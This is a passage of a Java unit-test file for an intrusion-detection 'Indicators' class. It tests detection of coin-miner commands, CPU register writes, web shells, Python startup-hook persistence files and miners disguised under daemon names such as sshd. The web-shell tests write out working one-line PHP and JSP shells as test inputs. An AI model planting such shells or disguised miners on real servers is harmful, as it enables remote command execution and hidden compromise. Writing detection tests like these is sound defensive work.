                List.of("curl", "https://example.org/stratum-v2.html"), List.of("x", "--stratum:", "a"), List.of("pip", "--donate"),
                List.of("git", "log", "--grep=stratum+"))) {
            assertThat(Indicators.minesCoins(argv.get(0), argv)).as(String.join(" ", argv)).isFalse();
        }
        assertThat(Indicators.writesCpuRegisters("python3", "/dev/cpu/3/msr")).isTrue();
        assertThat(Indicators.writesCpuRegisters(null, "/dev/cpu/0/msr")).isTrue();
        assertThat(Indicators.writesCpuRegisters("wrmsr", "/dev/cpu/0/msr")).isFalse();
        assertThat(Indicators.writesCpuRegisters("python3", "/dev/cpu/0/cpuid")).isFalse();
    }

    @Test
    void webShellsAreScriptsThatRunWhatTheRequestAsks() {
        assertThat(Indicators.webShell("<?php system($_GET['c']); ?>")).isTrue();
        assertThat(Indicators.webShell("<?php @eval(base64_decode($_POST['x'])); ?>")).isTrue();
        assertThat(Indicators.webShell("<?=`$_GET[0]`?>")).isTrue();
        assertThat(Indicators.webShell("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>")).isTrue();
        assertThat(Indicators.webShell("<?php echo htmlspecialchars($_GET['q']); ?>")).as("input, nothing run").isFalse();
        assertThat(Indicators.webShell("<?php exec('/usr/bin/convert a.png b.jpg'); ?>")).as("a fixed command").isFalse();
        assertThat(Indicators.webShell("system($_GET['c'])")).as("no script tag").isFalse();
        assertThat(Indicators.webScript("/var/www/html/up.PHP")).isTrue();
        assertThat(Indicators.webScript("/srv/www/a.jsp")).isTrue();
        assertThat(Indicators.webScript("/var/www/html/style.css")).isFalse();
    }

    @Test
    void pythonStartupHooksAreThePthAndCustomizeFilesOfItsSiteDirectories() {
        assertThat(Indicators.pythonStartupHook("/usr/lib/python3/dist-packages/zz.pth")).isTrue();
        assertThat(Indicators.pythonStartupHook("/home/u/.local/lib/python3.11/site-packages/x.pth")).isTrue();
        assertThat(Indicators.pythonStartupHook("/usr/lib/python3.11/sitecustomize.py")).isTrue();
        assertThat(Indicators.pythonStartupHook("/etc/python3.11/sitecustomize.py")).isTrue();
        assertThat(Indicators.pythonStartupHook("/opt/venv/lib/python3.11/site-packages/usercustomize.py")).isTrue();
        assertThat(Indicators.pythonStartupHook("/usr/lib/python3/dist-packages/pkg/zz.pth")).as("not in the site directory itself").isFalse();
        assertThat(Indicators.pythonStartupHook("/usr/lib/python3/dist-packages/.pth")).as("no name").isFalse();
        assertThat(Indicators.pythonStartupHook("/usr/lib/python3/dist-packages/mod.py")).isFalse();
        assertThat(Indicators.pythonStartupHook("/home/u/notes.pth")).isFalse();
        assertThat(Indicators.pythonStartupHook("/home/u/project/sitecustomize.py")).isFalse();
    }

    @Test
    void pythonInstallsPackagesThroughPipVenvOrSetupPy() {
        assertThat(Indicators.installsPythonPackages("python3", List.of("python3", "-m", "pip", "install", "x"))).isTrue();
        assertThat(Indicators.installsPythonPackages("python3.11", List.of("python3", "-mvenv", "env"))).isTrue();
        assertThat(Indicators.installsPythonPackages("python3", List.of("python3", "setup.py", "develop"))).isTrue();
        assertThat(Indicators.installsPythonPackages("python3", List.of("python3", "/tmp/get-pip.py"))).isTrue();
        assertThat(Indicators.installsPythonPackages("virtualenv", List.of("virtualenv"))).isTrue();
        assertThat(Indicators.installsPythonPackages("python3", List.of("python3", "-m", "http.server"))).isFalse();
        assertThat(Indicators.installsPythonPackages("python3", List.of("python3", "hook.py"))).isFalse();
        assertThat(Indicators.installsPythonPackages("sh", List.of("sh", "setup.py"))).isFalse();
        assertThat(Indicators.installsPythonPackages(null, List.of())).isFalse();
    }

    @Test
    void aDaemonsNameAsArgvZeroIsADisguiseUnlessTheProgramIsADaemonOrAMultiCallBinary() {
        assertThat(Indicators.daemonAlias("miner", "sshd")).isTrue();
        assertThat(Indicators.daemonAlias("xmrig", "/usr/sbin/crond")).isTrue();
        assertThat(Indicators.daemonAlias("sshd", "/usr/sbin/sshd")).as("its own name").isFalse();
        assertThat(Indicators.daemonAlias("apache2", "httpd")).as("a daemon under another daemon's name").isFalse();
        assertThat(Indicators.daemonAlias("busybox", "crond")).as("busybox's crond").isFalse();
        assertThat(Indicators.daemonAlias("miner", "-bash")).as("a login shell's name").isFalse();
        assertThat(Indicators.daemonAlias("systemd", "/sbin/init")).isFalse();
        assertThat(Indicators.daemonImpostor("/home/u/.cache/x/sshd")).isTrue();
        assertThat(Indicators.daemonImpostor("/home/u/src/openssh/sshd")).as("a build tree").isFalse();
        assertThat(Indicators.daemonImpostor("/home/u/.git/hooks/init")).as("generic names are not daemons'").isFalse();
        assertThat(Indicators.daemonImpostor("../x/sshd")).isFalse();
    }
}
